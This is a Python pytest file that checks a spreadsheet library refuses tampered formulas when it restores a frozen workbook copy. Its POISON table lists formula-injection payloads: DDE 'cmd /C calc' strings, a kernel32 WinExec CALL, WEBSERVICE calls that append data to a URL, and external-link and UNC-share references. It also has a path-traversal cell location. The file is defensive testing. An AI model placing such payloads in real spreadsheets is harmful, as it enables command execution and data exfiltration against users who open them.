"""The record of a frozen copy is not trusted: nothing poisoned comes back from it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from tests.workbook.existing.corpus import parts_of, write
from tests.workbook.existing.test_freeze import copied, formulas, frozen, thawed
from vfmxl.errors import RequestRefused

if TYPE_CHECKING:
    from pathlib import Path

    from vfmxl.functions import Engine

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")

POISON = {
    "DDE": "VFM_PACK()&cmd|' /C calc'!A0",
    "DDE quoted": "'cmd'|'/C calc'!A0+VFM_PACK()",
    "WEBSERVICE": 'WEBSERVICE("http://example.org/"&VFM_PACK())',
    "prefixed WEBSERVICE": '_xlfn.WEBSERVICE("http://example.org/"&VFM_PACK())',
    "inside ours": 'VFM_VALUE(_xlfn.WEBSERVICE("http://example.org"),"x")',
    "HYPERLINK": 'HYPERLINK("http://example.org",VFM_PACK())',
    "RTD": 'RTD("a","b","c")&VFM_PACK()',
    "CALL": 'CALL("kernel32","WinExec","JCJ","calc",0)+VFM_PACK()',
    "unknown": "EVIL(VFM_PACK())",
    "link": "[2]Sheet1!A1&VFM_PACK()",
    "named link": "[book.xlsx]Sheet1!A1&VFM_PACK()",
    "path": "'C:\\x\\[book.xlsx]Sheet1'!A1&VFM_PACK()",
    "share": "'\\\\host\\share\\[b.xlsx]S'!A1&VFM_PACK()",
    "other add-in": "[1]!EVIL(1)&VFM_PACK()",
    "other add-in's name": "[1]!evil&VFM_PACK()",
    "not ours": "SUM(1,2)",
    "no such of ours": "VFM_EVIL(1)",
    "unknown sheet": "Nowhere!A1&VFM_PACK()",
    "no formula": "VFM_PACK()+",
    "not closed": "VFM_PACK()&(1",
    "in a text": '"VFM_PACK()"',
    "too long": "VFM_PACK()&" + '"' + "x" * 9000 + '"',
}  # fmt: skip


def poisoned(target: Path, formula: str, where: str = "A1", kind: str = "cell", sheet: str = "Working") -> Path:
    """The frozen copy with one line of its record changed: the one of Working!A1."""
    parts = parts_of(target)
    name = next(name for name, content in parts.items() if b"Formulas that became values" in content)
    text = parts[name].decode()
    row = re.search(r"<row r=\"\d+\">(?:(?!</row>).)*>Working<(?:(?!</row>).)*</row>", text)
    assert row is not None
    cells = re.findall(r"<t xml:space=\"preserve\">(.*?)</t>", row[0])
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    new = (
        row[0]
        .replace(f">{cells[0]}<", f">{sheet}<")
        .replace(f">{cells[2]}<", f">{where}<", 1)
        .replace(">=VFM_PACK()<", f">={escaped}<")
        .replace(">cell<", f">{kind}<")
    )
    assert new != row[0]
    parts[name] = text.replace(row[0], new).encode()
    return write(parts, target)


@pytest.mark.parametrize("case", POISON)
def test_nothing_poisoned_is_written(case: str, engine: Engine, made: dict[str, Path], tmp_path: Path) -> None:
    target, report = frozen(engine, copied(made["carries its functions"], tmp_path / "a.xlsx"))
    back, thaw_report = thawed(poisoned(target, POISON[case]))
    assert len(thaw_report.thawed) == len(report.frozen) - 1
    assert len(thaw_report.left) == 1
    assert ("Working", "(0, 0)") not in formulas(back)
    assert b"<f>" not in parts_of(back)["xl/worksheets/sheet3.xml"]


PLACES_OFF = [
    ("A1048577", "cell", "Working"),
    ("XFE1", "cell", "Working"),
    ("A1", "cell", "Nowhere"),
    ("A1", "array A1:XFD1048576", "Working"),
    ("A1", "array B2:C3", "Working"),
    ("A1", "dynamic array A1:B2:C3 1", "Working"),
    ("../../x", "cell", "Working"),
    ("A1", "defined name: definedName 99", "xl/workbook.xml"),
    ("A1", "defined name: definedName 1", "xl/styles.xml"),
    ("A1", "table column: calculatedColumnFormula 1", "xl/workbook.xml"),
    ("A1", "whatever", "Working"),
]


@pytest.mark.parametrize(("where", "kind", "sheet"), PLACES_OFF)
def test_nothing_is_written_where_no_cell_is(where: str, kind: str, sheet: str, engine: Engine, made: dict[str, Path], tmp_path: Path) -> None:
    target, report = frozen(engine, copied(made["carries its functions"], tmp_path / "a.xlsx"))
    _, thaw_report = thawed(poisoned(target, "VFM_PACK( )", where, kind, sheet))
    assert len(thaw_report.thawed) == len(report.frozen) - 1
    assert len(thaw_report.left) == 1


def test_a_workbook_that_was_not_frozen_is_refused(made: dict[str, Path], tmp_path: Path) -> None:
    path = copied(made["excel"], tmp_path / "a.xlsx")
    with pytest.raises(RequestRefused, match="no frozen copy"):
        thawed(path)
    assert [file.name for file in tmp_path.iterdir()] == ["a.xlsx"]
